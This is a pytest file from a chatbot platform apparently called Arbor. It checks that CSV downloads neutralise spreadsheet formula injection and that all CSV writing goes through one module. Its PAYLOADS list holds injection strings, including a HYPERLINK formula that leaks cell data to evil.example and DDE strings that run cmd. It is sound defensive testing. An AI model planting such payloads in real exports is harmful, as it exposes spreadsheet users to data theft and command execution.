"""Hole 6 of issue 15: CSV formula injection. What a visitor types reaches the designer's CSV downloads
(Insight's misses.csv, transcripts.csv, ...); a cell a spreadsheet would run as a formula (starting with
`=`, `+`, `-`, `@`, tab or CR) is written as text: a single quote before it, the cell quoted (OWASP).
Every CSV Arbor writes goes through runtime/csvfile.py."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

from runtime import csvfile
from runtime.extensions import db
from runtime.steps.base import Input
from runtime.store.accounts import create_user
from runtime.turns.turn import handle, start_conversation

ROOT = Path(__file__).resolve().parents[2]
CLOCK_START = datetime(2026, 11, 20, 12, tzinfo=UTC)  # counts go by day: noon of a fixed day
pytestmark = pytest.mark.usefixtures("clock")
PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_like_cell_is_prefixed_with_a_quote_and_quoted(payload):
    text = csvfile.csv_text([{"text": payload, "count": -3}], ["text", "count"])
    quoted = '"' + "'" + payload.replace('"', '""') + '"'
    assert text == f"text,count\n{quoted},-3\n"  # a number Arbor computed stays a number
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ["'" + payload, "-3"]


def test_ordinary_cells_are_written_as_before():
    rows = [{"text": "pizza, please", "count": 2}, {"text": 'say "hi"', "count": None}]
    assert csvfile.csv_text(rows) == 'text,count\n"pizza, please",2\n"say ""hi""",\n'


def test_misses_csv_from_a_visitor_escapes_the_formula(app, client, bots):
    bots.load("lead-capture")
    with app.app_context():
        conversation = start_conversation("lead-capture", "mallory", "webchat")[0].id
        handle(conversation, Input.message(PAYLOADS[0]))  # not an option: an NLP miss
        create_user("admin@example.com", "correct horse", "admin")
        db.session.remove()
    token = re.search(r'name="csrf-token" content="([^"]+)"', client.get("/designer/signin").text).group(1)
    signed_in = client.post("/designer/signin", data={"csrf_token": token, "email": "admin@example.com",
                                                      "password": "correct horse"})
    assert signed_in.status_code == 302
    download = client.get("/designer/bots/lead-capture/insight/misses.csv")
    assert download.status_code == 200 and download.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(download.text, newline="")))
    assert [row["text"] for row in rows] == ["'" + PAYLOADS[0].lower()]  # misses are grouped in lower case
    assert "\n=" not in download.text and ",=" not in download.text


def test_every_csv_writer_goes_through_the_one_place():
    writers = [path.relative_to(ROOT).as_posix() for folder in ("runtime", "designer")
               for path in (ROOT / folder).rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())]
    assert writers == ["runtime/csvfile.py"]
